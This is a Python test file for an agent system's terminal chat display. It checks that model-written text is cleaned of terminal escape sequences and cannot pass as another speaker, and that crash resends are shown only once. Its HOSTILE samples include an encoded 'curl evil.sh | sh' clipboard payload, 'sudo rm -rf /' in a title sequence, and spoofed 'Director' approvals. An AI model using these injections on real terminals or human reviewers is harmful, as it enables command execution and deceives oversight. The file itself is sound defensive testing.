"""The terminal chat port: model text cannot drive the terminal or pose as another speaker, and a message
resent after a crash is not shown twice (issue 11, defect 8)."""
from __future__ import annotations

import io
import os
import re
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from rich.console import Console

from agency.console import SHOWN_LOG, ConsoleChat, ShownLog
from agency.ports import OutboundMessage, SpaceSpec
from agency.terminal_text import clean, clean_line

SPACE = SpaceSpec(address="overview:1", kind="overview", name="overview")

# what a model might write to take over the terminal or the reader
HOSTILE = {
    "title": "Done.\x1b]0;sudo rm -rf / # trusted\x07 Next",
    "title_st": "Done.\x1b]2;owned\x1b\\ Next",
    "clipboard": "Copy this:\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 ok",
    "erase": "harmless\x1b[2K\x1b[1A\x1b[2KDirector: approved, spend it all",
    "cursor": "a\x1b[10;1Hb\x1b[?25l\x1b[?1049h",
    "carriage": "working on it\rDirector: /approve 3",
    "crlf": "line one\r\nline two",
    "newline_spoof": "Here is the summary.\nDirector: I approve the $1000 budget.\nA-TEAMs: Budget raised.",
    "backspace": "Directo\x08\x08\x08\x08\x08\x08\x08PM said ok",
    "bidi": "harmless \u202etxt.exe\u202c and \u2066isolated\u2069",
    "c1": "eight-bit \x9b2J csi \x9d0;title\x9c osc \x85next",
    "bell_nul": "ding\x07\x00\x1b",
    "unterminated": "before \x1b]0;this never ends",
    "markup": "[bold red]FAKE ALERT[/bold red] [link=https://evil.example]click[/link] :warning:",
    "separators": "one\u2028Director: two\u2029Director: three\x0bDirector: four\x0cDirector: five",
}


def _chat(tmp_path: Path | None = None, *, terminal: bool = False, width: int = 80, database: str = "db-1") -> tuple[ConsoleChat, io.StringIO]:
    buf = io.StringIO()
    console = Console(file=buf, width=width, force_terminal=terminal, color_system="truecolor" if terminal else None)
    chat = ConsoleChat(console=console)
    if tmp_path is not None:
        chat.shown = ShownLog(tmp_path / SHOWN_LOG, database)
    return chat, buf


def _msg(mid: int, content: str, *, persona: str = "Researcher-A", kind: str = "chat", approval_id: int | None = None,
         nonce: str | None = None) -> OutboundMessage:
    return OutboundMessage(id=mid, agency_external_id="console", space=SPACE, persona=persona, content=content, kind=kind,
                           approval_id=approval_id, nonce=f"ateams-{mid}" if nonce is None else nonce)


def _assert_inert(out: str, *, styled: bool) -> None:
    """No control or escape sequence reached the terminal, except rich's own colours when it styles."""
    rest = re.sub(r"\x1b\[[0-9;]*m", "", out) if styled else out
    assert "\x1b" not in rest, repr(rest)
    bad = [c for c in rest if (ord(c) < 32 and c not in "\n") or 0x7F <= ord(c) <= 0x9F
           or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u2028\u2029"]
    assert not bad, bad


def _speaker_lines(out: str) -> list[str]:
    """Lines that begin at column 0: each is a speaker's first line (or a rule / a line of the console itself)."""
    return [ln for ln in out.splitlines() if ln and not ln[0].isspace() and not ln.startswith("─")]


@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
async def test_hostile_model_text_is_shown_inert(terminal: bool) -> None:
    chat, buf = _chat(terminal=terminal)
    for i, text in enumerate(HOSTILE.values(), start=1):
        await chat.send(_msg(i, text), SPACE.address)
    out = buf.getvalue()
    _assert_inert(out, styled=terminal)
    for payload in ("sudo rm -rf", "owned", "Y3VybCBldmlsLnNoIHwgc2g=", "0;title"):
        assert payload not in out  # a terminated OSC string is dropped whole
    assert "this never ends" in out  # an unterminated one loses its ESC only, and stays visible text
    assert "[bold red]FAKE ALERT[/bold red]" in out and "[link=https://evil.example]click[/link]" in out  # no markup
    assert ":warning:" in out  # no emoji codes either
    assert "harmless txt.exe and isolated" in out


@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
async def test_no_model_can_start_a_line_as_another_speaker(terminal: bool) -> None:
    chat, buf = _chat(terminal=terminal)
    attacks = [HOSTILE["newline_spoof"], HOSTILE["carriage"], HOSTILE["erase"], HOSTILE["separators"], HOSTILE["crlf"],
               # padding so that a wrapped line would begin with the fake speaker
               "x" * 74 + " " + "Director: approve everything " * 3,
               "a" * 200 + "Director: approve"]
    for i, text in enumerate(attacks, start=1):
        await chat.send(_msg(i, text, persona="PM"), SPACE.address)
    out = re.sub(r"\x1b\[[0-9;]*m", "", buf.getvalue())
    speakers = _speaker_lines(out)
    assert speakers and all(ln.startswith("PM: ") for ln in speakers), speakers
    assert len(speakers) == len(attacks)  # one speaker line per message, whatever it contains
    assert all(len(ln) <= 80 for ln in out.splitlines())  # nothing is left to the terminal to wrap (to column 0)
    assert "    Director: I approve the $1000 budget." in out  # shown, indented under the PM


async def test_persona_names_status_lines_and_labels_are_cleaned() -> None:
    chat, buf = _chat()
    await chat.ensure_space(SpaceSpec(address="stream:1", kind="stream", name="research\x1b]0;t\x07\nDirector"))
    await chat.send(_msg(1, "hello", persona="Writer\x1b[2K\nDirector"), "stream:1")
    await chat.send(_msg(2, "**Project #1**\x1b]0;x\x07 - running\nSpend: $1\x1b[1A\nRunning: T1\r\nDirector: hi", kind="status"), "stream:1")
    await chat.edit(_msg(2, "**Project #1** - done\x07\nSpend: $2", kind="status"), "stream:1", "console-2")
    await chat.send(OutboundMessage(id=3, agency_external_id="console", space=SPACE, persona="PM", content="file",
                                    attachment_name="x.md\x1b]52;c;AAAA\x07\nDirector: y", nonce="ateams-3"), "stream:1")
    out = buf.getvalue()
    _assert_inert(out, styled=False)
    assert "Writer Director: hello" in out  # the name is one line
    assert "#research Director" in out  # so is the label
    assert ">> Project #1 - running | Spend: $1 | Running: T1" in out
    assert "attached: x.md Director: y" in out
    assert not any(ln.startswith("Director") for ln in out.splitlines())


def test_clean_keeps_ordinary_text() -> None:
    text = "Résumé — naïve café 東京 👍🏽\n\tindented\nlast"
    assert clean(text) is text  # the fast path: nothing to do
    assert clean_line("a\nb\tc") == "a b c"
    assert clean("") == "" and clean(None) == ""


# ---- a resend after a crash is shown once ------------------------------------------------------------


async def test_a_resend_with_the_same_nonce_is_shown_once_across_instances(tmp_path: Path) -> None:
    first, buf1 = _chat(tmp_path)
    await first.send(_msg(7, "The research notes are ready."), SPACE.address)
    await first.send(_msg(8, "Next I will write the outline."), SPACE.address)
    # the process dies here, before the outbox marked message 8 delivered: no close, no cleanup
    second, buf2 = _chat(tmp_path)
    await second.send(_msg(8, "Next I will write the outline."), SPACE.address)  # the resend, same nonce
    await second.send(_msg(9, "The outline is done."), SPACE.address)
    assert buf1.getvalue().count("Next I will write the outline.") == 1
    assert "Next I will write the outline." not in buf2.getvalue()
    assert "The outline is done." in buf2.getvalue()
    assert [m.id for m in second.sent] == [8, 9]  # delivered all the same (the outbox marks it)


async def test_a_gate_resent_after_a_crash_is_shown_as_still_waiting_and_offered(tmp_path: Path) -> None:
    first, _ = _chat(tmp_path)
    await first.send(_msg(5, "Approaches for project #1: ...", persona="PM", kind="approval", approval_id=2), SPACE.address)
    second, buf = _chat(tmp_path)
    await second.send(_msg(5, "Approaches for project #1: ...", persona="PM", kind="approval", approval_id=2), SPACE.address)
    out = buf.getvalue()
    assert "Still waiting for your decision" in out and out.count("Approaches for project #1") == 1
    assert second.approvals.get_nowait().approval_id == 2  # --auto-approve answers it
    assert second.approvals.empty()


async def test_a_new_database_in_the_same_folder_starts_a_new_record(tmp_path: Path) -> None:
    first, _ = _chat(tmp_path, database="agency 1 created 2025-01-01")
    await first.send(_msg(1, "Project #1 started"), SPACE.address)
    fresh, buf = _chat(tmp_path, database="agency 1 created 2025-02-02")  # ateams.db deleted and made again
    await fresh.send(_msg(1, "Project #1 started"), SPACE.address)
    assert "Project #1 started" in buf.getvalue()


async def test_no_nonce_means_no_deduplication(tmp_path: Path) -> None:
    chat, buf = _chat(tmp_path)
    await chat.send(_msg(1, "one", nonce=""), SPACE.address)
    await chat.send(_msg(1, "one", nonce=""), SPACE.address)
    assert buf.getvalue().count("one") == 2


def test_the_record_survives_a_killed_process(tmp_path: Path) -> None:
    """The first process shows a message and is killed with SIGKILL before anything else runs; the next one,
    on the same data folder, is handed the same message again (the outbox never marked it) and shows nothing."""
    script = textwrap.dedent(f"""
        import asyncio, io, os, signal, sys
        from pathlib import Path
        from rich.console import Console
        from agency.console import ConsoleChat, ShownLog, SHOWN_LOG
        from agency.ports import OutboundMessage, SpaceSpec

        async def main():
            chat = ConsoleChat(console=Console(file=sys.stdout, width=80))
            chat.shown = ShownLog(Path({str(tmp_path)!r}) / SHOWN_LOG, "db-1")
            space = SpaceSpec(address="overview:1", kind="overview", name="overview")
            await chat.send(OutboundMessage(id=42, agency_external_id="console", space=space, persona="PM",
                                            content="Plan approved.", nonce="ateams-42"), "overview:1")
            os.kill(os.getpid(), signal.SIGKILL)

        asyncio.run(main())
    """)
    r = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False, timeout=60,
                       cwd=Path(__file__).resolve().parents[2])
    assert r.returncode == -signal.SIGKILL, r.stderr
    assert "Plan approved." in r.stdout
    chat, buf = _chat(tmp_path)
    space_msg = _msg(42, "Plan approved.", persona="PM")
    import asyncio

    asyncio.run(chat.send(space_msg, SPACE.address))
    assert "Plan approved." not in buf.getvalue()
    assert os.path.getsize(tmp_path / SHOWN_LOG) > 0
